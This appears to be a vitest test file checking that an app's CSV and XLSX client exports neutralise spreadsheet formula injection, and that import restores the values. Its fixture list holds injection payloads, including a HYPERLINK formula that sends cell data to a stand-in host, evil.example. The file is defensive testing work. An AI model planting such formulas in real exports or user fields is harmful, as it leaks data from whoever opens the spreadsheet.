import { unzipSync } from 'fflate';
import Papa from 'papaparse';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { readTable, toCsv } from '../src/render/tables';
import { type Harness, makeHarness, registerOwner } from './support/harness';

/** Issue 9: a client named like a formula must not run as one when the export is opened in a spreadsheet. */
let h: Harness;
beforeEach(async () => {
  h = await makeHarness();
});
afterEach(() => h.close());

const NASTY = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1+1', '-2+3', '@SUM(1,1)', '=1+1\nsecond line'];

async function ownerWithNastyClients() {
  const { client } = await registerOwner(h);
  for (const [i, first] of NASTY.entries()) {
    const res = await client.post('/api/v1/clients', {
      first_name: first,
      last_name: `Last${i}`,
      phone: '+447700900123',
      notes: i === 0 ? '-note' : 'safe = text',
    });
    expect(res.status, first).toBe(200);
  }
  return client;
}

describe('CSV exports neutralise formulas (OWASP: prefix a single quote)', () => {
  it('the clients export through the real procedure', async () => {
    const client = await ownerWithNastyClients();
    const res = await client.request('POST', '/api/v1/clients/export', { format: 'csv' });
    expect(res.status).toBe(200);
    const rows = Papa.parse<string[]>(String(res.body).replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
    const [header, ...data] = rows;
    expect(header?.[0]).toBe('First name');
    const firstNames = data.map((r) => r[0]);
    expect(firstNames.sort()).toEqual(NASTY.map((n) => `'${n}`).sort());
    for (const r of data) {
      for (const cell of r) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
      expect(r[3]).toBe("'+447700900123");
    }
    expect(data.some((r) => r[10] === "'-note")).toBe(true);
    expect(data.some((r) => r[10] === 'safe = text')).toBe(true);
  });

  it('what Kairos exported imports back as it was', async () => {
    const client = await ownerWithNastyClients();
    const csv = (await client.mutate('clients.export', { format: 'csv' })).body.result.data;
    const other = (await registerOwner(h)).client;
    const imported = await other.post('/api/v1/user/import-clients', { file_name: 'c.csv', content_base64: csv.content_base64 });
    expect(imported.status).toBe(200);
    const list = (await other.get('/api/v1/clients?per_page=100')).body.data as { first_name: string; phone: string }[];
    expect(list.map((c) => c.first_name).sort()).toEqual([...NASTY].sort());
    expect(list.every((c) => c.phone === '+447700900123')).toBe(true);
  });

  it('every cell and header of the CSV writer, whatever its position', () => {
    const csv = toCsv({
      headers: ['=h', 'ok'],
      rows: [
        ['@a', '\tb'],
        [-5, '-5'],
        [null, '=x\n=y'],
        ['\rc', 'd=e'],
      ],
    });
    const rows = Papa.parse<string[]>(csv.replace(/^\uFEFF/, '')).data;
    expect(rows).toEqual([
      ["'=h", 'ok'],
      ["'@a", "'\tb"],
      ['-5', "'-5"],
      ['', "'=x\n=y"],
      ["'\rc", 'd=e'],
    ]);
  });

  it('a quote Kairos added is taken off again on import, and only then', async () => {
    const bytes = new TextEncoder().encode("a,b,c\n'=1+1,'plain,'+44\n");
    expect(await readTable('x.csv', bytes)).toEqual([
      ['a', 'b', 'c'],
      ['=1+1', "'plain", '+44'],
    ]);
  });
});

describe('XLSX exports store text, never formulas', () => {
  it('the clients export and the export-everything workbook', async () => {
    const client = await ownerWithNastyClients();
    const one = (await client.mutate('clients.export', { format: 'xlsx' })).body.result.data;
    const all = await client.query('settings.exportInformation');
    for (const b64 of [one.content_base64, all.body.result.data.content_base64]) {
      const files = unzipSync(new Uint8Array(Buffer.from(b64, 'base64')));
      const sheets = Object.keys(files).filter((f) => /^xl\/worksheets\/.*\.xml$/.test(f));
      expect(sheets.length).toBeGreaterThan(0);
      const xml = sheets.map((f) => new TextDecoder().decode(files[f])).join('');
      expect(xml).not.toMatch(/<f[ >]/);
      const strings = new TextDecoder().decode(files['xl/sharedStrings.xml'] ?? new Uint8Array());
      expect(`${xml}${strings}`).toContain('HYPERLINK(');
    }
  });
});
